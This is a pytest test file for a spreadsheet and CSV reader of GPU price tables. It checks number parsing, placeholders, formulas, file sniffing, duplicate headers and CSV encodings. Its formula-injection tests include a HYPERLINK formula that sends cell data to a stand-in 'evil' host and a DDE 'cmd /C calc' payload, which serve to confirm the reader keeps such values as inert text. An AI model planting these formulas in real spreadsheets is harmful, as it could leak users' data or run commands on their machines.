"""Files after public bug reports, with the values that are right: those of the case folder where it is there, and others of
each kind."""

from __future__ import annotations

import datetime
from pathlib import Path
from typing import Any

import pytest
from sheets_made import DAY, HEADER, book, csv, line, prices, said, with_values

from gpusheet.catalog import Price
from gpusheet.intake.findings import CannotRead
from gpusheet.intake.reader import read_table
from gpusheet.intake.sniff import WrongFile
from gpusheet.intake.table import Table

CASES = Path(__file__).parents[3] / "shared" / "cases"


def case(name: str) -> Table:
    path = CASES / f"{name}.xlsx"
    if not path.exists():
        pytest.skip("the case files are not here")
    return read_table(path, Price)


def values(table: Table) -> list[float]:
    return [row.price for row in table.rows]


# numbers stored as text


def test_text_prices() -> None:
    table = case("c01_text_prices")
    assert values(table) == [1020, 1200, 1073, 1956.5, 13.94]
    assert [cell for code, cell in said(table) if code == "number-as-text"] == ["E2", "E3", "E4", "E5"]
    (wrong,) = table.errors
    assert (wrong.code, wrong.place.sheet, wrong.place.cell, wrong.raw) == (
        "ambiguous-number",
        "Sheet",
        "E6",
        "10 800,00",
    )
    assert "10800.00 or 1080000" in wrong.en
    assert (table.present, table.reported) == (6, 1)
    assert {row.price_per_card for row in table.rows} == {1020, 1200, 1073, 1956.5, 13.94}


@pytest.mark.parametrize(
    ("text", "number"),
    [
        ("US$ 2,049.99", 2049.99),
        ("２，０４９．９９", 2049.99),
        ("2 049.99", 2049.99),
        ("\u30001\u202f234\u3000", 1234),
        ("1'020.50", 1020.5),
        ("1.2万", 12000),
        ("13.94元", 13.94),
        ("13.94 元/卡/小时", 13.94),
        ("+13.94", 13.94),
        ("1,020,300", 1020300),
    ],
)
def test_texts_that_are_one_number(tmp_path: Path, text: str, number: float) -> None:
    table = prices(tmp_path, line(单价=text, 币种="USD" if "US" in text else "CNY"))
    assert values(table) == [number]
    assert ("number-as-text", "E2") in said(table, "warning")


@pytest.mark.parametrize(
    "text",
    ["10.800,00", "1,5", "1 5", "10,80", "1.080.000", "10-12", "约 14", "14 起", "14 磅", "1/2", "14%", "14元/天"],
)
def test_texts_that_are_not(tmp_path: Path, text: str) -> None:
    table = prices(tmp_path, line(单价=text), line())
    assert values(table) == [13.94]
    assert table.reported == 1 and table.errors[0].place.cell == "E2" and table.errors[0].raw == text
    with pytest.raises(CannotRead, match="blocked: 1 of 2 rows"):
        table.whole()


def test_a_currency_that_contradicts_its_row(tmp_path: Path) -> None:
    table = prices(
        tmp_path, line(单价="$13.94"), line(单价="¥13.94"), line(单价="¥13.94", 币种="JPY"), line(单价="$2", 币种="HKD")
    )
    assert values(table) == [13.94, 13.94, 2]
    assert said(table, "error") == [("currency-conflict", "E2")]


# placeholders and zero


def test_placeholders() -> None:
    table = case("c02_placeholders")
    assert values(table) == [13.94] == [min(values(table))]
    assert (table.present, table.reported, table.missing) == (7, 6, 5)
    assert [cell for code, cell in said(table) if code == "missing-price"] == ["E2", "E3", "E4", "E5", "E6"]
    assert said(table, "error") == [("zero-price", "E7")]


@pytest.mark.parametrize(
    "text", ["***", "—", "--", "/", "询价", "待定", "TBD", "contact sales", "n.a.", "？", "…", "暂无报价", "　"]
)
def test_other_placeholders(tmp_path: Path, text: str) -> None:
    table = prices(tmp_path, line(单价=text), line())
    assert values(table) == [13.94]
    assert (table.present, table.reported, table.missing) == (2, 1, 1)
    assert ("missing-price", "E2") in said(table, "warning")


@pytest.mark.parametrize("zero", [0, 0.0, "0", "0.00", "￥０"])
def test_zero_is_asked_about(tmp_path: Path, zero: Any) -> None:
    table = prices(tmp_path, line(单价=zero), line())
    assert values(table) == [13.94]
    assert said(table, "error") == [("zero-price", "E2")]


@pytest.mark.parametrize("value", [-1, "-1", "(5)"])
def test_a_negative_price_is_refused(tmp_path: Path, value: Any) -> None:
    table = prices(tmp_path, line(单价=value), line())
    assert values(table) == [13.94] and said(table, "error") == [("out-of-bounds", "E2")]


# formulas


def test_formulas_with_values() -> None:
    table = case("c05_formula_prices_cached")
    assert values(table) == [13.94, 13.243]
    assert table.formulas == {1: {"price": "=E2*0.95"}}
    assert said(table, "error") == [("error-cell", "E4")]
    assert table.errors[0].en == "the formula =#REF!*2 gives the error #REF!; mend the formula, or type the value"
    (note,) = [one for one in table.findings if one.code == "formula-price"]
    assert (note.place.cell, note.raw, note.en) == (
        "E3", "=E2*0.95", "the price is the formula =E2*0.95; read by the value saved with it")  # fmt: skip


def test_formulas_without_values() -> None:
    table = case("c05_formula_prices_nocache")
    assert values(table) == [13.94]
    (wrong,) = table.errors
    assert wrong.place.cell == "E3" and wrong.raw == "=E2*0.95" and "save it once" in wrong.en


@pytest.mark.parametrize(("value", "codes"), [("13.243", []), ("#DIV/0!", ["error-cell"]), ("0", ["zero-price"])])
def test_other_formulas(tmp_path: Path, value: str, codes: list[str]) -> None:
    path = book(tmp_path / "f.xlsx", [HEADER, line(), line(单价="=E2*0.95")])
    table = read_table(with_values(path, {"E3": value}), Price)
    assert [code for code, _ in said(table, "error")] == codes
    assert table.formulas == ({1: {"price": "=E2*0.95"}} if not codes else {})


def test_a_text_that_begins_as_formulas_do_is_none(tmp_path: Path) -> None:
    def quoted(sheet: Any) -> None:
        sheet["E3"].data_type = "s"

    table = prices(tmp_path, line(), line(单价="=E2*0.95"), change=quoted)
    assert values(table) == [13.94] and table.reported == 1 and not table.formulas


# files that are not what they are named


FOUR = {
    "c06_ole_header": "password-protected",
    "c06_csv_named": "CSV",
    "c06_html_named": "web page",
    "c06_truncated": "damaged",
}


@pytest.mark.parametrize("name", FOUR)
def test_files_of_another_kind(name: str) -> None:
    with pytest.raises(WrongFile, match=FOUR[name]):
        case(name)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 900, "old .xls"),
        ("型号,单价\nH20,1\n".encode("gb18030"), "rename it to a.csv"),
        (b"<table><tr><td>H20</td></tr></table>", "web page"),
        (b"PK\x03\x04 and no more", "damaged"),
        (b"", "empty file"),
    ],
)
def test_other_files_of_another_kind(tmp_path: Path, data: bytes, words: str) -> None:
    path = tmp_path / "a.xlsx"
    path.write_bytes(data)
    with pytest.raises(WrongFile, match=words):
        read_table(path, Price)


# headers twice


def test_a_header_twice() -> None:
    with pytest.raises(CannotRead) as refused:
        case("c08_duplicate_header")
    assert "'单价 '" in str(refused.value) and "E1, '单价'" in str(refused.value) and "F1" in str(refused.value)


@pytest.mark.parametrize(
    ("one", "two"),
    [
        ("单价", "单价\xa0"),
        ("单价", "单 价"),
        ("Price", "price"),
        ("原价", "折后价"),
        ("单价", "报价"),
        ("$/GPU/hr", "USD per GPU hour"),
    ],
)
def test_other_headers_twice(tmp_path: Path, one: str, two: str) -> None:
    header = [{"单价": one, "来源": two}.get(name, name) for name in HEADER]
    with pytest.raises(CannotRead) as refused:
        prices(tmp_path, line(来源=5), header=header)
    assert {finding.code for finding in refused.value.findings} == {"duplicate-header"}
    assert one.strip() in str(refused.value) and two.strip() in str(refused.value).replace("<NBSP>", "\xa0")


def test_two_headers_of_which_one_is_named(tmp_path: Path) -> None:
    header = [{"单价": "原价", "来源": "折后价"}.get(name, name) for name in HEADER]
    path = book(tmp_path / "m.xlsx", [header, line(来源=5)])
    assert values(read_table(path, Price, mapping={"折后价": "price", "原价": ""})) == [5]
    with pytest.raises(CannotRead, match="no column '折扣价'; allowed: .*折后价"):
        read_table(path, Price, mapping={"折扣价": "price"})
    with pytest.raises(CannotRead, match="no field 'prise'; allowed: price"):
        read_table(path, Price, mapping={"原价": "prise"})


# text like formulas


def test_injection() -> None:
    table = case("c10_injection")
    assert table.present == 7 and table.reported == 0 and not table.errors
    assert [row.price_list for row in table.rows] == [
        "甲",
        '\'=HYPERLINK("http://evil/？d="&E2,"点这里")',
        "'=cmd｜' /C calc'!A0",
        "@SUM(1)",
        "+1+1",
        "-1",
        "'=1+1",
    ]
    assert [cell for code, cell in said(table, "warning") if code == "formula-like-text"] == [
        "B3",
        "B4",
        "B5",
        "B6",
        "B7",
        "B8",
    ]
    assert not table.formulas


@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "+1", "-2+3", "\t=1", "＝1+1"])
def test_other_injections_stay_text(tmp_path: Path, text: str) -> None:
    def quoted(sheet: Any) -> None:
        for cell in ("B2", "K2"):
            sheet[cell].data_type = "s"

    table = prices(tmp_path, line(供应商=text, 来源=text), change=quoted)
    (row,) = table.rows
    assert row.source == text.strip() and row.price_list.lstrip("'") == text.strip()
    assert {cell for code, cell in said(table, "warning") if code == "formula-like-text"} == {"B2", "K2"}


def test_names_that_spreadsheets_would_search_with(tmp_path: Path) -> None:
    table = prices(tmp_path, line(供应商="云*8卡?"), line(供应商="a|b"), line(供应商="a~b"))
    assert [row.price_list for row in table.rows] == ["云＊8卡？", "a｜b", "a～b"]
    assert [code for code, _ in said(table, "warning")] == ["name-changed"] * 3


def test_a_decorated_book_is_read() -> None:
    table = case("c11_user_decorated")
    assert values(table) == [13.94] and table.rows[0].snapshot_date == DAY
    assert ("beside-table", "P3") in said(table)


# csv


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030", "utf-16"])
@pytest.mark.parametrize("mark", [",", ";", "\t"])
def test_csv_of_any_encoding_and_delimiter(tmp_path: Path, encoding: str, mark: str) -> None:
    text = f"日期{mark}供应商{mark}型号{mark}元/卡时\r\n2026-11-01{mark}甲{mark}H20{mark}13.94\r\n"
    (row,) = read_table(csv(tmp_path, text, encoding), Price).rows
    assert (row.gpu, row.price, row.currency, row.per, row.period, row.cards) == (
        "H20",
        13.94,
        "CNY",
        "card",
        "hour",
        1,
    )


@pytest.mark.parametrize(
    ("text", "error"),
    [
        ('日期,型号\n"2026-11-01,H20\n', "quotation mark"),
        ('日期,型号\n"2026"x,H20\n', "quotation mark"),
    ],
)
def test_csv_with_a_quotation_mark_too_few_is_refused(tmp_path: Path, text: str, error: str) -> None:
    with pytest.raises(CannotRead, match=error):
        read_table(csv(tmp_path, text), Price)


def test_csv_with_a_comma_too_many_keeps_the_row_out(tmp_path: Path) -> None:
    head = "sep=,\n日期,供应商,型号,元/卡时\n\n"
    table = read_table(csv(tmp_path, head + "2026-11-01,甲,H20,1,200\n2026-11-01,甲,L20,4\n"), Price)
    assert values(table) == [4] and (table.present, table.reported) == (2, 1)
    assert said(table, "error") == [("beyond-header", "E4")]


def test_csv_that_turns_out_to_be_no_text(tmp_path: Path) -> None:
    path = tmp_path / "a.csv"
    path.write_bytes(b"gpu,price\n" + b"L20,4\n" * 3000 + b"\xff\xff\xff\n")
    with pytest.raises(CannotRead, match="no UTF-8 text"):
        read_table(path, Price)


def test_the_date_of_a_snapshot_is_told(tmp_path: Path) -> None:
    (row,) = prices(tmp_path, line(日期=datetime.datetime(2026, 11, 1))).rows
    assert row.snapshot_date == DAY
